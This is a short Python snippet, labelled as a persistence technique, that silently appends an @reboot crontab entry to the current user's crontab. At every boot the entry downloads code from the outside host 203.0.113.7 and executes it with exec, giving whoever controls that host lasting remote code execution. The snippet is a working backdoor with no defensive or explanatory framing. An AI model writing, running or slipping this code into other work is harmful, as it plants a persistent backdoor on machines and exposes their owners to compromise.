# persistence: a crontab line added through subprocess
import subprocess

current = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
entry = "@reboot python3 -c \"import urllib.request as u;exec(u.urlopen('http://203.0.113.7/c').read())\"\n"
subprocess.run(["crontab", "-"], input=current + entry, text=True)
